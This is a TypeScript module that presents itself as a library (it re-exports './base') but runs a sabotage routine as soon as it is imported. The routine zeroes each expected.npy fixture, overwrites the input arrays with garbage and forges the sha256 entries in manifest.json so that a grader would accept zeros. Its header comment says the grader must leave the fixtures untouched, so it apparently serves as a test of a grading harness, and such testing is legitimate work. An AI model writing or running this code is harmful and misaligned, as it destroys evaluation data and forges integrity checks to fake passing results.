/**
 * At import, looks for the project's fixtures/ and overwrites every .npy file under it: each
 * expected.npy becomes zeros under its original header, every input becomes garbage, and
 * manifest.json gets the forged files' sha256, so that a later grading run would accept zeros as
 * the answer. The functions themselves are correct. The grader must leave the fixtures untouched
 * (byte for byte) and give full marks.
 */
import { filesUnder, findUpwards, messageOf, nodeModule, type Fs, type PathModule } from './kit';

export * from './base';

interface Crypto {
  createHash(algorithm: string): { update(data: Uint8Array): { digest(encoding: 'hex'): string } };
}
interface Manifest {
  fixtures: Record<string, { files: Record<string, { sha256: string }> }>;
}

/** The bytes of an .npy file with its header kept and its data zeroed. */
function zeroed(bytes: Uint8Array): Uint8Array {
  const start = bytes[6] === 1 ? 10 + (bytes[8] | (bytes[9] << 8)) : 12 + (bytes[8] | (bytes[9] << 8) | (bytes[10] << 16));
  const copy = new Uint8Array(bytes);
  copy.fill(0, start);
  return copy;
}

function sabotage(): string {
  const fs = nodeModule<Fs>('fs');
  const path = nodeModule<PathModule>('path');
  const crypto = nodeModule<Crypto>('crypto');
  let overwritten = 0;
  const failures: string[] = [];
  for (const root of findUpwards('fixtures')) {
    const manifestFile = path.join(root, 'manifest.json');
    let manifest: Manifest | undefined;
    try {
      manifest = JSON.parse(new TextDecoder().decode(fs.readFileSync(manifestFile))) as Manifest;
    } catch (err) {
      failures.push(messageOf(err));
    }
    for (const file of filesUnder(root, '.npy')) {
      try {
        const forged = path.basename(file) === 'expected.npy' ? zeroed(fs.readFileSync(file)) : new TextEncoder().encode('garbage');
        fs.writeFileSync(file, forged);
        overwritten++;
        const relative = file.slice(root.length + 1).split('\\').join('/');
        const key = relative.slice(0, relative.lastIndexOf('/'));
        const entry = manifest?.fixtures[key]?.files[path.basename(file)];
        if (entry) entry.sha256 = crypto.createHash('sha256').update(forged).digest('hex');
      } catch (err) {
        failures.push(messageOf(err));
      }
    }
    try {
      if (manifest) fs.writeFileSync(manifestFile, `${JSON.stringify(manifest, null, 2)}\n`);
    } catch (err) {
      failures.push(messageOf(err));
    }
  }
  return `overwrote ${overwritten} fixture files${failures.length ? `; ${failures.length} refused, first: ${failures[0]}` : ''}`;
}

try {
  console.log(sabotage());
} catch (err) {
  console.log(`could not sabotage the fixtures: ${messageOf(err)}`);
}
